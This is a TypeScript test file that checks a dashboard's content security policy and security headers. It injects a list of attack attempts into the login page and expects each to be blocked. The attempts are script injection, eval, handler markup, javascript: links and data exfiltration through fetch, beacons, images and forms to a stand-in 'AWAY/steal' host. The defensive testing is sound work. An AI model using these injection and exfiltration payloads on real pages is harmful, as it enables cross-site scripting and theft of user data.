/** The content security policy of the page, against code that got into it all the same. */
import { expect } from 'vitest'
import { serve } from '../../browser/serve.ts'
import { test } from '../test.ts'

/** Code in the page, and what comes of it: the name of the error that it throws, or a value. `AWAY` is another origin. */
const ATTEMPTS: Readonly<Record<string, readonly [code: string, outcome: string]>> = {
  'a script within the page': [
    `document.body.append(Object.assign(document.createElement('script'), { text: 'window.ran = true' }))`,
    'TypeError',
  ],
  'a script of another origin': [
    `document.body.append(Object.assign(document.createElement('script'), { src: 'AWAY/a.js' }))`,
    'TypeError',
  ],
  'markup with a handler': [`document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran = true">')`, 'TypeError'],
  'a document of markup': [`document.write('<script>window.ran = true</script>')`, 'TypeError'],
  'code out of a string': [`window.eval('window.ran = true')`, 'EvalError'],
  'a function out of a string': [`new Function('window.ran = true')()`, 'EvalError'],
  'a timer of a string': [`setTimeout('window.ran = true')`, 'TypeError'],
  'a policy of its own': [`trustedTypes.createPolicy('default', { createHTML: (text) => text })`, 'TypeError'],
  'a module of data': [`return import('data:text/javascript,window.ran = true')`, 'TypeError'],
  'a worker': [`new Worker(URL.createObjectURL(new Blob(['1'])))`, 'TypeError'],
  'a call to another origin': [`return fetch('AWAY/steal?' + document.title, { mode: 'no-cors' })`, 'TypeError'],
  'a beacon to another origin': [`return navigator.sendBeacon('AWAY/steal') && 'sent'`, 'sent'],
  'a picture of another origin': [
    `return new Promise((resolve) => Object.assign(new Image(), { onerror: () => resolve('refused'), onload: () => resolve('loaded'), src: 'AWAY/steal.png' }))`,
    'refused',
  ],
  // It is sent in a task of its own: the attempt is over when it is refused.
  'a form to another origin': [
    `const form = Object.assign(document.createElement('form'), { method: 'post', action: 'AWAY/steal' }); document.body.append(form); form.submit(); return new Promise((resolve) => document.addEventListener('securitypolicyviolation', (event) => resolve(event.violatedDirective)))`,
    'form-action',
  ],
  'a link of code': [
    `const link = Object.assign(document.createElement('a'), { href: 'javascript:window.ran = true' }); document.body.append(link); link.click()`,
    'undefined',
  ],
  'another base of addresses': [
    `document.head.prepend(Object.assign(document.createElement('base'), { href: 'AWAY/' })); return document.baseURI === location.href ? 'refused' : document.baseURI`,
    'refused',
  ],
  'a frame of another origin': [
    `document.body.append(Object.assign(document.createElement('iframe'), { src: 'AWAY/frame' }))`,
    'undefined',
  ],
}

test('each attempt is stopped', async ({ serveDashboard, guard }) => {
  // Each violation is reported by the browser: that is the point.
  void guard.expect(/^content security policy: /)
  void guard.expect(/./)
  const { enter, url } = await serveDashboard()
  const reached: string[] = []
  const away = await serve((request) => {
    reached.push(request.url)
    return new Response('window.ran = true', { headers: { 'content-type': 'text/javascript' } })
  })
  const page = await enter('/login', { as: 'nobody' })
  for (const [attempt, [code, outcome]] of Object.entries(ATTEMPTS)) {
    // Each attempt has a page that no other has changed.
    await page.goto(`${url}/login`)
    // Code of the protocol itself may evaluate strings. A task of the page's own may not.
    const found = await page.evaluate<string>(
      `new Promise((resolve) => window.setTimeout(async () => {
        try { resolve(String(await (async () => { ${code.replaceAll('AWAY', away)} })())) } catch (error) { resolve(error.name) }
      }))`,
    )
    expect(found, attempt).toBe(outcome)
    expect(await page.evaluate('window.ran === undefined'), attempt).toBe(true)
    expect(reached, attempt).toEqual([])
    expect(page.url(), attempt).toBe(`${url}/login`)
  }
})

test('each answer of the page says what browsers must not guess', async ({ serveDashboard }) => {
  const { url } = await serveDashboard()
  for (const path of ['/', '/login', '/jobs']) {
    const { headers } = await fetch(`${url}${path}`)
    expect(Object.fromEntries(headers), path).toMatchObject({
      'content-security-policy':
        "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types 'none'",
      'cross-origin-opener-policy': 'same-origin',
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': 'no-referrer',
      'cache-control': 'no-store',
    })
  }
})
